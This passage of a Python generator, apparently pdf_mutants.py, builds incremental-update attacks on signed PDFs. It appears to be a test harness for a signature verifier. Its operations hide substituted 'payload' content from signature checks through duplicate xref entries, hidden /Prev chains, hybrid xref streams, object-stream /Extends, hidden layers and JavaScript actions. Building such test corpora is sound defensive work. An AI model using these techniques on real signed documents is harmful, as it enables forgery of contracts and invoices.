        info = ctx.base.info_ref
        d = ctx.base.resolve(info)
        if not isinstance(d, PDict) or b"Font" not in d:
            raise Skip("the Info dictionary is no resource dictionary")
        e = edit_obj(ctx, info.num, "payload")
        e.set(b"Font", PDict([(k, courier(b"Courier-Bold")) for k, _ in ctx.base.resolve(d.get(b"Font")).pairs]))
        e.set(b"ModDate", pdf_string("D:20250701000000Z"))
    else:
        meta = ctx.base.catalog.get(b"Metadata")
        used = any(meta in (ctx.base.resolve(pr).get(b"Contents") or []) for pr in ctx.base.pages
                   if isinstance(ctx.base.resolve(pr).get(b"Contents"), list))
        if not isinstance(meta, Ref) or not used:
            raise Skip("the metadata is not page content")
        ctx.put(meta.num, make_stream(b"%<x:xmpmeta xmlns:x='adobe:ns:meta/'/>\nBT /F1 30 Tf 72 500 Td "
                                      + pdf_string(ATTACK_TEXT) + b" Tj ET\n",
                                      [(Name(b"Type"), Name(b"Metadata")), (Name(b"Subtype"), Name(b"XML"))]),
                "payload", meta.gen)


def op_oc_xobject(ctx, p):
    """Optional content: an existing page XObject given an /OC that hides it (the XObject has
    role other), or the layer's OCG itself edited."""
    if p["variant"] == "xobject_oc":
        xos = page_xobjects(ctx.base)
        if not xos:
            raise Skip("the page has no form XObject")
        ref = xos[0][1]
        old = ctx.base.resolve(ref)
        ocg = ctx.alloc()
        ctx.put(ocg, PDict([(Name(b"Type"), Name(b"OCG")), (Name(b"Name"), pdf_string("hidden"))]), "payload")
        d = old.dict.copy()
        d.set(b"OC", PDict([(Name(b"Type"), Name(b"OCMD")), (Name(b"OCGs"), [Ref(ocg)]), (Name(b"P"), Name(b"AllOff"))]))
        ctx.put(ref.num, Stream(d, old.data), "payload", ref.gen)
    else:  # ocg_usage: the signed layer's OCG asks to be off when viewed
        ocp = ctx.base.resolve(ctx.base.catalog.get(b"OCProperties"))
        ocgs = ctx.base.resolve(ocp.get(b"OCGs")) if isinstance(ocp, PDict) else None
        if not ocgs:
            raise Skip("no optional content")
        e = edit_obj(ctx, ocgs[0].num, "payload")
        e.set(b"Usage", PDict([(Name(b"View"), PDict([(Name(b"ViewState"), Name(b"OFF"))]))]))
        e.set(b"Intent", Name(b"Design"))


def op_objstm_tricks(ctx, p):
    """Object streams and xref streams read in two ways: the page redefined in a new object
    stream whose /Extends names the signed one; one xref section listing the content stream's
    number twice (the payload and the signed offset, in either order)."""
    if p["variant"] == "extends":
        old = objstm_of(ctx, ctx.base.page_ref.num)
        if old is None:
            raise Skip("the page is not in an object stream")
        if ctx.page_role != "payload":
            ctx.edit_page("payload").set(b"Contents", ctx.new_page_content("payload"))
        ctx.page_mode = "new_objstm"
        ctx.objstm_extends = Ref(old)
        return
    refs = ctx.base.content_refs()
    if not refs or ctx.base.xref[refs[0].num].kind != "n":
        raise Skip("no top-level content stream")
    n = refs[0].num
    ctx.put(n, make_stream(attack_content(ctx.base.page_box(), ctx.simple_font_name())), "payload", refs[0].gen)
    ctx.index_dup = (n, ctx.base.xref[n].a, refs[0].gen, p["order"])
    ctx.force_fmt = p["fmt"]


OPERATIONS = {
    "rewrite_content": op_rewrite_content,
    "trailer_info_points_at": op_trailer_info_points_at,
    "new_root": op_new_root,
    "prev_chain": op_prev_chain,
    "hybrid_xrefstm": op_hybrid_xrefstm,
    "objstm_new": op_objstm_new,
    "objstm_rewrite": op_objstm_rewrite,
    "duplicate_keys": op_duplicate_keys,
    "generation": op_generation,
    "acroform_replace": op_acroform_replace,
    "annotation_add": op_annotation_add,
    "info_rewrite": op_info_rewrite,
    "metadata_rewrite": op_metadata_rewrite,
    "touch_same": op_touch_same,
    "add_unreferenced": op_add_unreferenced,
    "fill_dangling": op_fill_dangling,
    "page_resources": op_page_resources,
    "form_fill": op_form_fill,
    "form_appearance": op_form_appearance,
    "acroform_defaults": op_acroform_defaults,
    "catalog_add": op_catalog_add,
    "annot_existing": op_annot_existing,
    "annot_tricks": op_annot_tricks,
    "annots_new_array": op_annots_new_array,
    "widget_geometry": op_widget_geometry,
    "shared_array": op_shared_array,
    "field_add": op_field_add,
    "shared_objects": op_shared_objects,
    "oc_xobject": op_oc_xobject,
    "objstm_tricks": op_objstm_tricks,
}

# Pairs that would edit the same thing in contradictory ways; a drawn sequence never has both.
EXCLUSIVE = [{"rewrite_content", "generation"}, {"generation", "duplicate_keys"},
             {"duplicate_keys", "objstm_new"}, {"objstm_new", "objstm_rewrite"},
             {"prev_chain", "hybrid_xrefstm"}, {"generation", "trailer_info_points_at"},
             {"objstm_tricks", "rewrite_content"}, {"objstm_tricks", "generation"},
             {"objstm_tricks", "objstm_new"}, {"objstm_tricks", "objstm_rewrite"},
             {"objstm_tricks", "duplicate_keys"}, {"objstm_tricks", "prev_chain"},
             {"objstm_tricks", "hybrid_xrefstm"}, {"objstm_tricks", "trailer_info_points_at"},
             {"form_fill", "form_appearance"}, {"annots_new_array", "annot_tricks"}]

# The operations that need the synthetic 'forms' base (or a corpus file with the same
# structures): drawn more often where they apply.
FORMS_ONLY = ("form_fill", "form_appearance", "annot_existing", "annots_new_array", "shared_array",
              "shared_objects", "oc_xobject")


def applicable(base, name):
    if name == "objstm_rewrite":
        return objstm_of_base(base, base.page_ref.num) or objstm_of_base(base, base.root_ref.num)
    if name == "fill_dangling":
        return bool(base_dangling(base))
    if name in ("rewrite_content", "generation"):
        return bool(base.content_refs())
    if name == "page_resources":
        return bool(base.page_fonts())
    if name == "form_fill":
        return any(n in base_fields(base) for n in ("ref", "amount", "choice"))
    if name == "form_appearance":
        return "ref" in base_fields(base)
    if name in ("acroform_defaults", "field_add"):
        return base_form(base)[1] is not None
    if name == "annot_existing":
        return bool(non_widget_annots(base))
    if name == "annots_new_array":
        return bool(pages_without_annots(base))
    if name == "widget_geometry":
        return bool(form_widgets(base))
    if name == "shared_array":
        return shared_annots_contents(base) is not None
    if name == "shared_objects":
        info = base.resolve(base.info_ref)
        return isinstance(info, PDict) and b"Font" in info or isinstance(base.catalog.get(b"Metadata"), Ref)
    if name == "oc_xobject":
        return bool(page_xobjects(base)) or isinstance(base.resolve(base.catalog.get(b"OCProperties")), PDict)
    if name == "objstm_tricks":
        refs = base.content_refs()
        return objstm_of_base(base, base.page_ref.num) or bool(refs and base.xref[refs[0].num].kind == "n")
    return True


def base_fields(base):
    if not hasattr(base, "_fields"):
        base._fields = form_fields(base)
    return base._fields


def objstm_of_base(base, num):
    e = base.xref.get(num)
    return e is not None and e.kind == "c"


def base_dangling(base):
    if not hasattr(base, "_dangling"):
        base._dangling = base.dangling()
    return base._dangling


def choose_params(ctx, name):
    r = ctx.rng
    if name == "rewrite_content":
        return {"label": r.choice(["none", "none", "Metadata", "ObjStm", "XRef", "XML"]),
                "compress": r.random() < 0.5, "listed": r.random() < 0.8}
    if name == "trailer_info_points_at":
        return {"target": r.choice(["content", "catalog", "page"])}
    if name == "new_root":
        return {"variant": r.choice(["new_tree", "js_attach"]),
                "dup": r.choice(["none", "none", "old_first", "new_first"])}
    if name == "prev_chain":
        return {"decoy": r.choice(["touch_info", "unreferenced"])}
    if name == "hybrid_xrefstm":
        return {"variant": r.choice(["stream_only", "both_table_original", "both_table_payload"])}
    if name == "objstm_new":
        return {"change": r.choice(["new_contents", "new_mediabox"])}
    if name == "objstm_rewrite":
        members = [m for m, num in (("page", ctx.base.page_ref.num), ("catalog", ctx.base.root_ref.num))
                   if objstm_of(ctx, num) is not None]
        return {"member": r.choice(members)}
    if name == "duplicate_keys":
        return {"key": r.choice(["Contents", "Contents", "MediaBox", "Resources", "Rotate"]),
                "order": r.choice(["old_first", "new_first"]), "pad": r.choice([0, 0, 40])}
    if name == "generation":
        v = r.choice(["gen1", "free", "repoint"])
        return {"variant": v, **({"target": r.choice(["new", "base_object"])} if v == "repoint" else {})}
    if name == "acroform_replace":
        return {"keep_fields": r.random() < 0.7}
    if name == "annotation_add":
        return {"subtype": r.choice(["FreeText", "Stamp"]), "where": r.choice(["direct", "indirect"]),
                "label": r.choice(TYPE_LABELS)}
    if name == "info_rewrite":
        return {"mode": r.choice(["redefine", "new"])}
    if name == "metadata_rewrite":
        return {"mode": r.choice(["redefine", "new"])}
    if name == "touch_same":
        cands = touch_candidates(ctx)
        if not cands:
            raise Skip("nothing to re-save")
        return {"num": r.choice(cands)}
    if name == "add_unreferenced":
        return {"count": r.randint(1, 3)}
    if name == "fill_dangling":
        d = base_dangling(ctx.base)
        num = r.choice(sorted(d))
        return {"num": num, "key": d[num][0], "label": r.choice(TYPE_LABELS), "listed": r.random() < 0.6}
    if name == "page_resources":
        return {"variant": r.choice(["page", "font_object"]),
                "font": r.choice(["Courier", "Times-Roman", "Courier-BoldOblique"])}
    fields = base_fields(ctx.base)
    if name == "form_fill":
        return {"variant": r.choice([v for v, f in (("value_and_ap", "ref"), ("value_no_ap", "amount"),
                                                    ("radio_switch", "choice")) if f in fields])}
    if name == "form_appearance":
        return {"variant": r.choice(["ap_only", "m_touch_rewrite", "shared_rewrite", "xobject_ap_rewrite",
                                     "ap_existing", "as_only", "mk_generated"])}
    if name == "acroform_defaults":
        return {"variant": r.choice(["da", "dr_font", "dr_font_object", "need_appearances"])}
    if name == "catalog_add":
        return {"variant": r.choice(["openaction_js", "aa_js", "names_js", "outlines", "pagelabels",
                                     "viewer_prefs", "oc_off"])}
    if name == "annot_existing":
        return {"variant": r.choice(["rewrite_dict", "ap_inplace", "ap_replaced"])}
    if name == "annot_tricks":
        return {"variant": r.choice(["rect_indirect", "rect_null_item", "rect_ref_items", "print_only",
                                     "hidden_link_js", "zero_rect_widget_aa", "existing_xobject_ap"]),
                "where": r.choice(["direct", "indirect"])}
    if name == "annots_new_array":
        return {"variant": r.choice(["direct", "indirect", "direct_rect_indirect", "indirect_rect_indirect",
                                     "redirect"])}
    if name == "widget_geometry":
        return {"variant": r.choice(["move_rect", "new_kid"] if "choice" in fields else ["move_rect"])}
    if name == "shared_array":
        return {"variant": r.choice(["plain", "plain", "with_rect"]), "compress": r.random() < 0.5}
    if name == "field_add":
        return {"variant": r.choice(["activation", "additional"])}
    if name == "shared_objects":
        return {"variant": r.choice(["info_font", "metadata_content"])}
    if name == "oc_xobject":
        return {"variant": r.choice(["xobject_oc", "ocg_usage"])}
    if name == "objstm_tricks":
        vs = (["extends"] if objstm_of(ctx, ctx.base.page_ref.num) is not None else []) + \
             (["index_dup"] if ctx.base.content_refs() and ctx.base.xref[ctx.base.content_refs()[0].num].kind == "n"
              else [])
        v = r.choice(vs)
        return {"variant": v, **({"order": r.choice(["payload_first", "signed_first"]),
                                  "fmt": r.choice(["table", "stream"])} if v == "index_dup" else {})}
    raise KeyError(name)


RARE_WEIGHT = 4


def draw_sequence(rng, base, only=None):
    """1-3 distinct applicable operations, never two of an EXCLUSIVE pair."""
    names = [n for n in OPERATIONS if applicable(base, n) and (only is None or n in only)]
    # The operations only some bases allow are drawn more often where they apply.
    weights = [RARE_WEIGHT if n in ("objstm_rewrite", "fill_dangling") + FORMS_ONLY else 1 for n in names]
    k = rng.choices([1, 2, 3], weights=[5, 3, 2])[0]
    seq = []
    while len(seq) < k and len(seq) < len(names):
        n = rng.choices(names, weights)[0]
        if n in seq or any({n, s} <= pair for s in seq for pair in EXCLUSIVE):
            if all(m in seq or any({m, s} <= pair for s in seq for pair in EXCLUSIVE) for m in names):
                break
            continue
        seq.append(n)
    return seq


# --------------------------------------------------------------------------------------------
# Writing the update
# --------------------------------------------------------------------------------------------


class Writer:
    """Appends bytes after the base and remembers the absolute offset of every object."""

    def __init__(self, base_len, first_eol):
        self.base_len = base_len
        self.out = bytearray(first_eol)
        self.offsets = {}

    def tell(self):
        return self.base_len + len(self.out)

    def obj(self, num, gen, body):
        self.offsets[(num, gen)] = self.tell()
        self.out += b"%d %d obj\n" % (num, gen) + ser(body) + b"\nendobj\n"
        return self.offsets[(num, gen)]


def objstm_bytes(members):
    """An object stream holding [(num, body bytes)]."""
    head, bodies, off = [], bytearray(), 0
    for num, body in members:
        head.append(b"%d %d" % (num, off))
        bodies += body + b"\n"
        off += len(body) + 1
    header = b" ".join(head) + b"\n"
    return header, bytes(bodies)


def section_entries(w, ctx, sec, written=None):
    """Writes `sec`'s objects (unless `written` already has their offsets) and its new object
    stream; returns its xref entries: num -> (kind, field, gen) with kind 'n' (field = offset),
    'f' (free, next generation 1) or 'c' (field = object stream, gen = index in it)."""
    entries = {}
    for d in sec.objs:
        at = written[d.num] if written is not None else w.obj(d.num, d.gen, d.obj)
        if d.listed:
            entries[d.num] = ("n", at, d.gen)
    if sec.objstm:
        stm_num = ctx.alloc()
        header, bodies = objstm_bytes([(d.num, ser(d.obj)) for d in sec.objstm])
        stm = Stream(PDict([(Name(b"Type"), Name(b"ObjStm")), (Name(b"N"), len(sec.objstm)),
                            (Name(b"First"), len(header))]), header + bodies)
        if ctx.objstm_extends is not None:
            stm.dict.set(b"Extends", ctx.objstm_extends)
        entries[stm_num] = ("n", w.obj(stm_num, 0, stm), 0)
        for i, d in enumerate(sec.objstm):
            entries[d.num] = ("c", stm_num, i)
    for num in sec.free:
        entries[num] = ("f", 0, 1)
    for num, (kind, target) in sec.repoint.items():
        # The entry of `num` takes the offset of an object stored under another number.
        entries[num] = ("n", w.offsets[(target, 0)] if kind == "new" else target, 0)
    return entries


def runs(nums):
    """Consecutive runs of sorted numbers: the subsections of an xref."""
    out = []
    for n in sorted(nums):
        if out and n == out[-1][-1] + 1:
            out[-1].append(n)
        else:
            out.append([n])
    return out


def write_xref(w, ctx, fmt, entries, prev, tp, list_self=True):
    """Writes an xref table and trailer, or an xref stream (listing itself unless told not to),
    for `entries`; returns its offset."""
    at = w.tell()
    xref_num = ctx.alloc() if fmt == "stream" else None
    if xref_num is not None and list_self:
        entries = dict(entries)
        entries[xref_num] = ("n", at, 0)
    size = max([ctx.base.size, ctx.next_num] + [n + 1 for n in entries])
    trailer = PDict([(Name(b"Size"), size)] + tp)
    # objstm_tricks: one number given a second entry, the signed offset, in a subsection of
    # its own (before or after the one with the payload).
    dup = ctx.index_dup if ctx.index_dup is not None and ctx.index_dup[0] in entries else None
    extra_before, extra_after = [], []
    if dup is not None:
        (extra_before if dup[3] == "signed_first" else extra_after).append((dup[0], ("n", dup[1], dup[2])))
    if prev is not None:
        trailer.set(b"Prev", prev)
    if fmt == "table":
        out = bytearray(b"xref\n")
        for n, (kind, a, gen) in extra_before:
            out += b"%d 1\n%010d %05d n \n" % (n, a, gen)
        for run in runs(entries):
            out += b"%d %d\n" % (run[0], len(run))
            for n in run:
                kind, a, gen = entries[n]
                if kind == "c":
                    raise ValueError("object-stream members need an xref stream")
                out += b"%010d %05d %s \n" % (a, gen, b"n" if kind == "n" else b"f")
        for n, (kind, a, gen) in extra_after:
            out += b"%d 1\n%010d %05d n \n" % (n, a, gen)
        w.out += out + b"trailer\n" + ser(trailer) + b"\n"
        return at
    # An xref stream, /W [1 4 2]: offsets below 4 GiB, indexes below 65536.
    index, rows = [], bytearray()

    def row(kind, a, gen):
        return bytes([{"f": 0, "n": 1, "c": 2}[kind]]) + a.to_bytes(4, "big") + gen.to_bytes(2, "big")

    for n, e in extra_before:
        index += [n, 1]
        rows += row(*e)
    for run in runs(entries):
        index += [run[0], len(run)]
        for n in run:
            rows += row(*entries[n])
    for n, e in extra_after:
        index += [n, 1]
        rows += row(*e)
    trailer.pairs = ([(Name(b"Type"), Name(b"XRef"))] + trailer.pairs
                     + [(Name(b"W"), [1, 4, 2]), (Name(b"Index"), index)])
    w.obj(xref_num, 0, Stream(trailer, bytes(rows)))
    return at


def settle(ctx, sec):
    """Puts unlisted objects last (a scan rebuilding the xref keeps the last definition of a
    number) and gives a section that would list nothing a decoy entry."""
    sec.objs = sorted(sec.objs, key=lambda d: not d.listed)
    if not any(d.listed for d in sec.objs) and not (sec.objstm or sec.free or sec.repoint):
        sec.objs.insert(0, ctx.decoy())
    return sec


def write_section(w, ctx, sec, prev, tp):
    settle(ctx, sec)
    return write_xref(w, ctx, sec.fmt, section_entries(w, ctx, sec), prev, tp)


def trailer_pairs(ctx):
    """The trailer keys (besides /Size and /Prev) of the update's sections."""
    base = ctx.base
    pairs = []
    new_root, old_root = Ref(ctx.catalog_num), base.root_ref
    if ctx.old_root_dup == "old_first":
        pairs += [(Name(b"Root"), old_root), (Name(b"Root"), new_root)]
    elif ctx.old_root_dup == "new_first":
        pairs += [(Name(b"Root"), new_root), (Name(b"Root"), old_root)]
    else:
        pairs.append((Name(b"Root"), new_root))
    info = ctx.info
    if info == "content":
        info = ctx.content_ref
    elif info == "page":
        info = base.page_ref
    elif info == "catalog":
        info = Ref(ctx.catalog_num)
    elif info == "base":
        info = base.info_ref
    if info is not None:
        pairs.append((Name(b"Info"), info))
    if base.trailer.get(b"ID") is not None:
        pairs.append((Name(b"ID"), base.trailer.get(b"ID")))
    return pairs


def finalize(ctx, xref_pref):
    """Writes the update; returns (appended bytes, layout description)."""
    base = ctx.base
    # The page and catalog, written as plain objects, in a new object stream, or by rewriting
    # the existing object stream that holds them.
    managed = []  # (num, gen, obj, role, mode)
    if ctx.page is not None:
        managed.append((base.page_ref.num, base.page_ref.gen, ctx.page, ctx.page_role, ctx.page_mode))
    if ctx.catalog is not None:
        managed.append((ctx.catalog_num, 0 if ctx.catalog_num != base.root_ref.num else base.root_ref.gen,
                        ctx.catalog, ctx.catalog_role, ctx.catalog_mode if ctx.catalog_num == base.root_ref.num
                        else "plain"))
    in_objstm = []
    rewritten = {}  # objstm num -> {member num: body}
    for num, gen, obj, role, mode in managed:
        if mode == "new_objstm":
            in_objstm.append(ObjDef(num, 0, obj, role))
        elif mode == "rewrite_objstm":
            rewritten.setdefault(objstm_of(ctx, num), {})[num] = ser(obj)
        else:
            ctx.put(num, obj, role, gen)
    for stm_num, changes in rewritten.items():
        old = base.resolve(Ref(stm_num))
        members = [(m, changes.get(m, body)) for m, body in base.objstm_members(stm_num)]
        header, bodies = objstm_bytes(members)
        d = PDict([(k, v) for k, v in old.dict.pairs if k not in (b"Length", b"Filter", b"DecodeParms", b"First")])
        d.set(b"First", len(header))
        d.set(b"Filter", Name(b"FlateDecode"))
        ctx.put(stm_num, Stream(d, zlib.compress(header + bodies)), "payload")

    payload = [d for d in ctx.objs.values() if d.role == "payload"]
    cover = [d for d in ctx.objs.values() if d.role != "payload"]
    pay_free = [n for n, r in ctx.free.items() if r == "payload"]
    pay_repoint = {n: t for n, (t, r) in ctx.repoint.items() if r == "payload"}

    decoy = ctx.decoy
    layout = {"layout": ctx.layout, "variant": ctx.layout_variant}
    eol = b"" if base.data.endswith((b"\n", b"\r")) else b"\n"
    w = Writer(len(base.data), eol)
    tp = trailer_pairs(ctx)

    def fmt(force_stream=False):
        return "stream" if force_stream else xref_pref

    if ctx.layout == "prev_chain":
        hidden = Section(fmt(bool(in_objstm)))
        hidden.objs, hidden.objstm, hidden.free, hidden.repoint = payload, in_objstm, pay_free, pay_repoint
        main = Section(fmt())
        main.objs = cover or [decoy()]  # the section startxref names: harmless objects
        # Hidden section first in the file, then the one startxref names, whose /Prev is the
        # hidden one; the hidden one's /Prev is the base's last xref.
        hidden_at = write_section(w, ctx, hidden, base.startxref, tp)
        main_at = write_section(w, ctx, main, hidden_at, tp)
        layout["sections"] = [main.fmt, hidden.fmt]
        w.out += b"startxref\n%d\n%%%%EOF\n" % main_at
        return bytes(w.out), layout

    if ctx.layout == "hybrid":
        stm = Section("stream")
        stm.objs, stm.objstm, stm.free, stm.repoint = list(payload), in_objstm, pay_free, pay_repoint
        table = Section("table")
        table.objs = list(cover) or [decoy()]  # the table itself defines something harmless
        if ctx.layout_variant != "stream_only":
            # The objects the payload redefines, also given in the table with their signed
            # bodies: one section defines each twice, at different offsets.
            originals = [ObjDef(d.num, d.gen, Raw(base.body_of(d.num)), "cover")
                         for d in payload if base.body_of(d.num) is not None and base.xref.get(d.num)
                         and base.xref[d.num].b == d.gen]
            if ctx.layout_variant == "both_table_original":
                table.objs += originals
            else:  # the table has the payload, the stream the signed bodies
                table.objs += stm.objs
                stm.objs = originals
        # The objects of both sections first, then the xref stream (not listed anywhere, as
        # in hybrid files), then the table whose trailer names it with /XRefStm.
        settle(ctx, stm)
        settle(ctx, table)
        stm_at = {d.num: w.obj(d.num, d.gen, d.obj) for d in stm.objs}
        table_at = {d.num: w.obj(d.num, d.gen, d.obj) for d in table.objs}
        xs = write_xref(w, ctx, "stream", section_entries(w, ctx, stm, stm_at), None, tp, list_self=False)
        xt = write_xref(w, ctx, "table", section_entries(w, ctx, table, table_at), base.startxref,
                        tp + [(Name(b"XRefStm"), xs)])
        layout["sections"] = ["table+XRefStm"]
        w.out += b"startxref\n%d\n%%%%EOF\n" % xt
        return bytes(w.out), layout

    if ctx.split and payload:
        first = Section(fmt())
        first.objs = cover or [decoy()]
        # The first update only holds harmless objects: its trailer keeps the signed /Root.
        base_tp = [(Name(b"Root"), base.root_ref)] + [(Name(k), base.trailer.get(k)) for k in (b"Info", b"ID")
                                                       if base.trailer.get(k) is not None]
        at1 = write_section(w, ctx, first, base.startxref, base_tp)
        w.out += b"startxref\n%d\n%%%%EOF\n" % at1
        second = Section(fmt(bool(in_objstm)))
        second.objs, second.objstm, second.free, second.repoint = payload, in_objstm, pay_free, pay_repoint
        at2 = write_section(w, ctx, second, at1, tp)
        w.out += b"startxref\n%d\n%%%%EOF\n" % at2
        layout["updates"] = 2
        layout["sections"] = [first.fmt, second.fmt]
        return bytes(w.out), layout

    sec = Section(fmt(bool(in_objstm)))
    sec.objs = cover + payload
    sec.objstm = in_objstm
    sec.free = list(ctx.free)
    sec.repoint = {n: t for n, (t, _) in ctx.repoint.items()}
    at = write_section(w, ctx, sec, base.startxref, tp)
    layout["sections"] = [sec.fmt]
    w.out += b"startxref\n%d\n%%%%EOF\n" % at
    return bytes(w.out), layout


# --------------------------------------------------------------------------------------------
# Synthetic bases: small unsigned PDFs with the structures the corpus bases seldom have (object
# streams holding the catalog and page, an indirect /Annots array, a reference the document
# leaves undefined). The harness signs them with `vanban sign` to make extra bases.
# --------------------------------------------------------------------------------------------


def synthetic_unsigned(kind):
    """An unsigned one-page PDF (kind 'forms': see synthetic_forms). kind 'objstm': catalog, page tree, page, font and /Annots array
    in an object stream, xref stream, and a page XObject /X1 (drawn by the content) that is never
    defined. kind 'table': all objects at top level, classic xref, and an /Annots entry that is
    never defined."""
    if kind == "forms":
        return synthetic_forms()
    box = [0, 0, 595, 842]
    lines = ["HOA DON / INVOICE No. 2025-001", "Total amount: 100 USD", "Approved by the director"]
    content = b"".join(b"BT /F1 %d Tf 72 %d Td %s Tj ET\n" % (22 if i == 0 else 14, 760 - 40 * i, pdf_string(t))
                       for i, t in enumerate(lines))
    page = PDict([(Name(b"Type"), Name(b"Page")), (Name(b"Parent"), Ref(2)), (Name(b"MediaBox"), box),
                  (Name(b"Contents"), Ref(4)), (Name(b"Annots"), Ref(6))])
    fonts = PDict([(Name(b"F1"), Ref(5))])
    if kind == "objstm":
        # /X1 is 40 0 R, far above the numbers a signing tool allocates: no revision defines it.
        content += b"q /X1 Do Q\n"
        page.set(b"Resources", PDict([(Name(b"Font"), fonts), (Name(b"XObject"), PDict([(Name(b"X1"), Ref(40))]))]))
        annots = []
    else:
        page.set(b"Resources", PDict([(Name(b"Font"), fonts)]))
        annots = [Ref(40)]  # an annotation no revision defines
    objs = {
        1: PDict([(Name(b"Type"), Name(b"Catalog")), (Name(b"Pages"), Ref(2))]),
        2: PDict([(Name(b"Type"), Name(b"Pages")), (Name(b"Kids"), [Ref(3)]), (Name(b"Count"), 1)]),
        3: page,
        4: make_stream(content, compress=True),
        5: HELVETICA.copy(),
        6: annots,
        7: PDict([(Name(b"Title"), pdf_string("Synthetic %s base" % kind)),
                  (Name(b"Producer"), pdf_string("pdf_mutants.py"))]),
    }
    w = Writer(0, b"%PDF-1.5\n%\xe2\xe3\xcf\xd3\n")
    entries = {0: ("f", 0, 65535)}
    trailer = [(Name(b"Root"), Ref(1)), (Name(b"Info"), Ref(7))]
    if kind == "objstm":
        packed = [1, 2, 3, 5, 6]
        for n in (4, 7):
            entries[n] = ("n", w.obj(n, 0, objs[n]), 0)
        header, bodies = objstm_bytes([(n, ser(objs[n])) for n in packed])
        stm = make_stream(header + bodies, [(Name(b"Type"), Name(b"ObjStm")), (Name(b"N"), len(packed)),
                                            (Name(b"First"), len(header))], compress=True)
        entries[8] = ("n", w.obj(8, 0, stm), 0)
        for i, n in enumerate(packed):
            entries[n] = ("c", 8, i)
        at = w.tell()
        entries[9] = ("n", at, 0)
        rows = b"".join(bytes([{"f": 0, "n": 1, "c": 2}[k]]) + a.to_bytes(4, "big") + (g & 0xFFFF).to_bytes(2, "big")
                        for k, a, g in (entries[n] for n in range(10)))
        d = PDict([(Name(b"Type"), Name(b"XRef")), (Name(b"Size"), 10)] + trailer + [(Name(b"W"), [1, 4, 2])])
        w.obj(9, 0, Stream(d, rows))
    else:
        for n in sorted(objs):
            entries[n] = ("n", w.obj(n, 0, objs[n]), 0)
        at = w.tell()
        out = b"xref\n0 8\n" + b"".join(b"%010d %05d %s \n" % (a, g, b"n" if k == "n" else b"f")
                                       for k, a, g in (entries[n] for n in range(8)))
        w.out += out + b"trailer\n" + ser(PDict([(Name(b"Size"), 8)] + trailer)) + b"\n"
    w.out += b"startxref\n%d\n%%%%EOF\n" % at
    return bytes(w.out)


def form_xobject(content, bbox, resources=None):
    """A form XObject (an appearance or a page XObject) drawing `content`."""
    extra = [(Name(b"Type"), Name(b"XObject")), (Name(b"Subtype"), Name(b"Form")), (Name(b"BBox"), bbox)]
    if resources is not None:
        extra.append((Name(b"Resources"), resources))
    return make_stream(content, extra)


def synthetic_forms():
    """An unsigned three-page PDF with the form and annotation structures the attacks on form
    filling need (classic xref, every object at top level):

    page 1 (3)   content array 10 = [4], XObject /Logo 20, marked content in layer 40 (an OCG the
                 catalog's /OCProperties has on), /Annots [12 16 27 17 18 19 13 30]
    page 2 (6)   its own content 26; its /Annots is the indirect array 10, which is also page 1's
                 /Contents (the items, streams, are no annotations to a viewer)
    page 3 (9)   no /Annots; /Contents [8 41] (41 is also the catalog's XMP /Metadata, written
                 as a content-stream comment); /Resources 7 is also the trailer's /Info
    form 11      indirect AcroForm: /DA, /DR << /Font << /Helv 21 >> >>, /Fields [12 16 27 17 14 13]
    12, 16       text fields "name", "name2" sharing one appearance stream 15
    27           text field "ref" with its own appearance 28
    17           text field "amount" with a /V, no /AP and no /DA (a viewer generates its appearance
                 from the form's /DA and /DR)
    14           radio group "choice" (/V /A), kids 18 (/AS /A) and 19 (/AS /Off), states 22, 24,
                 a shared /Off appearance 23
    13           push button "logo" whose /AP /N is the page XObject 20
    30           a FreeText annotation with its appearance 31
    """
    box = [0, 0, 595, 842]
    helv = Ref(21)
    dr = PDict([(Name(b"Font"), PDict([(Name(b"Helv"), helv)]))])
    lines = ["HOA DON / INVOICE No. 2025-002", "Total amount: 100 USD"]
    c1 = b"".join(b"BT /F1 %d Tf 72 %d Td %s Tj ET\n" % (22 if i == 0 else 14, 760 - 40 * i, pdf_string(t))
                  for i, t in enumerate(lines))
    c1 += b"/OC /L1 BDC BT /F1 14 Tf 72 680 Td (Approved by the director) Tj ET EMC\n"
    c1 += b"q 1 0 0 1 400 600 cm /Logo Do Q\n"

    def text_ap(text, w=228, h=30):
        return form_xobject(b"/Tx BMC BT /Helv 12 Tf 0 g 2 10 Td %s Tj ET EMC\n" % pdf_string(text),
                            [0, 0, w, h], dr.copy())

    def widget(extra, rect, name=None):
        d = PDict([(Name(b"Type"), Name(b"Annot")), (Name(b"Subtype"), Name(b"Widget")), (Name(b"Rect"), rect),
                   (Name(b"P"), Ref(3)), (Name(b"F"), 4)])
        if name is not None:
            d.set(b"T", pdf_string(name))
        d.pairs += extra
        return d

    tx = [(Name(b"FT"), Name(b"Tx")), (Name(b"DA"), pdf_string("/Helv 12 Tf 0 g"))]
    dot = b"q 0 g 4 4 12 12 re f Q\n"
    xmp = b"%<x:xmpmeta xmlns:x='adobe:ns:meta/'><!-- synthetic forms base --></x:xmpmeta>\n"
    objs = {
        1: PDict([(Name(b"Type"), Name(b"Catalog")), (Name(b"Pages"), Ref(2)), (Name(b"AcroForm"), Ref(11)),
                  (Name(b"Metadata"), Ref(41)),
                  (Name(b"OCProperties"), PDict([(Name(b"OCGs"), [Ref(40)]),
                                                 (Name(b"D"), PDict([(Name(b"ON"), [Ref(40)]),
                                                                     (Name(b"Order"), [Ref(40)])]))]))]),
        2: PDict([(Name(b"Type"), Name(b"Pages")), (Name(b"Kids"), [Ref(3), Ref(6), Ref(9)]), (Name(b"Count"), 3)]),
        3: PDict([(Name(b"Type"), Name(b"Page")), (Name(b"Parent"), Ref(2)), (Name(b"MediaBox"), box),
                  (Name(b"Contents"), Ref(10)),
                  (Name(b"Resources"), PDict([(Name(b"Font"), PDict([(Name(b"F1"), Ref(5))])),
                                              (Name(b"XObject"), PDict([(Name(b"Logo"), Ref(20))])),
                                              (Name(b"Properties"), PDict([(Name(b"L1"), Ref(40))]))])),
                  (Name(b"Annots"), [Ref(n) for n in (12, 16, 27, 17, 18, 19, 13, 30)])]),
        4: make_stream(c1, compress=True),
        5: HELVETICA.copy(),
        6: PDict([(Name(b"Type"), Name(b"Page")), (Name(b"Parent"), Ref(2)), (Name(b"MediaBox"), box),
                  (Name(b"Contents"), Ref(26)), (Name(b"Annots"), Ref(10)),
                  (Name(b"Resources"), PDict([(Name(b"Font"), PDict([(Name(b"F1"), Ref(5))]))]))]),
        7: PDict([(Name(b"Title"), pdf_string("Synthetic forms base")), (Name(b"Producer"), pdf_string("pdf_mutants.py")),
                  (Name(b"Font"), PDict([(Name(b"F1"), Ref(5))]))]),
